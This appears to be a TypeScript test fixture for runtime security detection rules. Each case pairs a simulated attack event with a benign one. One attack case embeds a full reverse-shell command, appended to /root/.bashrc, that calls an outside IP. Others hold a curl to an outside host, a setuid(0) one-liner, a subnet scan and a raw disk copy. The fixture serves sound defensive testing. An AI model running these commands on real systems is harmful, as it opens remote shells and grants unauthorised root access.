import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

const OUT = { 'fd.l4proto': 'tcp', 'evt.type': 'connect' }

/** Rules on connections, files and rights. */
export const CALL_ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'Interpreted procs inbound network activity',
    attack: inPod('/usr/bin/python3', 'python3 /tmp/shell.py', 'sh', {
      'fd.name': '10.0.0.9:40000->10.0.0.5:4444',
      'fd.lport': '4444',
    }),
    usual: inPod('/usr/bin/node', 'node server.js', 'tini', {
      'fd.name': '10.0.0.9:40000->10.0.0.5:8080',
      'fd.lport': '8080',
    }),
  },
  {
    rule: 'Interpreted procs outbound network activity',
    attack: inPod('/usr/bin/python3', 'python3 -c import socket', 'sh', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.7:4444',
    }),
    usual: inPod('/usr/bin/node', 'node server.js', 'tini', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.20:443',
    }),
  },
  {
    rule: 'Java Process Class File Download',
    attack: inPod('/usr/bin/java', 'java -jar app.jar', 'tini', {
      'fd.sip': '198.51.100.7',
      'fd.sport': '8888',
    }),
    usual: inPod('/usr/bin/java', 'java -jar worker.jar', 'tini', {
      'fd.sip': '10.0.0.7',
      'fd.sport': '7077',
    }),
  },
  {
    rule: 'Mkdir binary dirs',
    attack: inPod('/usr/bin/mkdir', 'mkdir /usr/sbin/.cache', 'sh', {
      'evt.arg.path': '/usr/sbin/.cache',
    }),
    usual: onHost('/usr/bin/mkdir', 'mkdir -p /usr/bin/site_perl', 'make', {
      ...PERSON,
      'evt.arg.path': '/usr/bin/site_perl',
    }),
  },
  {
    rule: 'Modify binary dirs',
    attack: onHost('/usr/bin/mv', 'mv /usr/bin/ps /usr/bin/ps.lanigiro', 'bash', {
      'evt.args': 'res=0 oldpath=/usr/bin/ps newpath=/usr/bin/ps.lanigiro',
    }),
    usual: onHost('/usr/bin/falcoctl', 'falcoctl artifact follow', 'systemd', {
      'evt.args': 'res=0 oldpath=/usr/bin/helper.tmp newpath=/usr/bin/helper',
    }),
  },
  {
    rule: 'Modify Container Entrypoint',
    attack: inPod('/bin/sh', 'sh', 'runc', { 'fd.name': '/proc/self/exe' }),
    usual: inPod('/usr/sbin/php-fpm', 'php-fpm', 'containerd-shim', {
      'fd.name': '/proc/self/fd/2',
    }),
  },
  {
    rule: 'Modify Shell Configuration File',
    attack: onHost('/usr/bin/tee', 'tee -a /root/.bashrc', 'sh', {
      'fd.name': '/root/.bashrc',
      'proc.pcmdline': 'sh -c echo "bash -i >& /dev/tcp/198.51.100.7/443 0>&1" | tee -a .bashrc',
    }),
    usual: onHost('/usr/bin/vim', 'vim .bashrc', 'bash', {
      ...PERSON,
      'fd.name': '/home/ann/.bashrc',
      'proc.pcmdline': 'bash',
    }),
  },
  {
    rule: 'Network Connection outside Local Subnet',
    attack: inPod('/usr/bin/curl', 'curl https://198.51.100.7:8443/x', 'sh', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.7:4444',
    }),
    usual: inPod('/app/api', 'api', 'tini', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.20:443',
    }),
  },
  {
    rule: 'Non sudo setuid',
    attack: onHost('/usr/bin/python3', 'python3 -c import os; os.setuid(0)', 'bash', {
      ...PERSON,
      'user.uid': 1000,
      'evt.arg.uid': '0(root)',
    }),
    usual: onHost('/usr/sbin/exim4', 'exim4 -bd', 'systemd', {
      'user.name': 'Debian-exim',
      'user.uid': 101,
      'evt.arg.uid': '101(Debian-exim)',
    }),
  },
  {
    rule: 'Outbound Connection to C2 Servers',
    attack: inPod('/tmp/.x/kworker', 'kworker', 'sh', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
    usual: onHost('/usr/sbin/squid', 'squid', 'systemd', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.7:443',
    }),
  },
  {
    rule: 'Outbound or Inbound Traffic not to Authorized Server Process and Port',
    attack: inPod('/bin/bash', 'bash', 'java', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->198.51.100.7:4444',
    }),
    usual: inPod('/app/metrics', 'metrics', 'tini', {
      ...OUT,
      'fd.name': '10.0.0.5:40000->10.0.0.53:53',
    }),
  },
  {
    rule: 'Packet socket created in container',
    attack: inPod('/usr/bin/nmap', 'nmap 10.42.1.0/24 -p 80', 'bash'),
    usual: inPod('/usr/sbin/keepalived', 'keepalived', 'tini', {
      'container.image.repository': 'docker.io/example/keepalived',
    }),
  },
  {
    rule: 'Privileged Container Device Access',
    attack: inPod('/bin/dd', 'dd if=/dev/sda of=/srv/d', 'sh', { 'fd.name': '/dev/sda' }),
    usual: inPod('/usr/bin/ceph-osd', 'ceph-osd --id 1', 'containerd-shim', {
      'fd.name': '/dev/sdb',
      'container.image.repository': 'quay.io/ceph/ceph',
    }),
  },
  {
    rule: 'PTRACE anti-debug attempt',
    attack: onHost('/tmp/.x/kworkerds', 'kworkerds', 'bash'),
    usual: onHost('/usr/bin/gdb', 'gdb ./server', 'bash', PERSON),
  },
]
